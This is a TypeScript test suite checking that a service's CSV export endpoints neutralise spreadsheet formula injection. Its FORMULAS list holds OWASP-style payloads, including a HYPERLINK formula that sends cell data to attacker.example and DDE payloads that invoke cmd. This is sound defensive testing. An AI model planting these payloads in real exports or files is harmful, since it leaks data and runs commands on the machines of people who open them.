import type { StoragePort } from '../../src/storage/storage.port';
import { STORAGE } from '../../src/storage/storage.tokens';
import { type RunningCollector, startCollector } from '../support/app';
import { parseCsv } from '../support/csv';
import { record } from '../support/records';

/** The cells a spreadsheet reads as a formula (OWASP, CSV injection). */
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?"&A1,"open")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV exports', () => {
  let c: RunningCollector;
  beforeAll(async () => {
    c = await startCollector();
    await c.app.get<StoragePort>(STORAGE).ingest(
      FORMULAS.map((formula, i) =>
        record({
          timeMs: Date.now() - 60_000 - i,
          user: formula,
          model: formula,
          feature: formula,
          agent: formula,
          service: formula,
          tags: { note: formula },
        }),
      ),
    );
  });
  afterAll(() => c.close());

  it.each(['/v1/reports/export?period=all&format=csv', '/api/cost-monitoring/export?format=csv&days=2'])(
    'neutralise every cell a spreadsheet would run as a formula (%s)',
    async (path) => {
      const res = await fetch(`${c.url}${path}`);
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(await res.text());
      expect(rows).toHaveLength(FORMULAS.length);
      for (const row of rows) {
        expect(row).toHaveLength(header.length);
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      // Each value is still there whole, behind the quote that neutralises it.
      const users = rows.map((row) => row[header.indexOf('user')]);
      expect(users.sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    },
  );
});
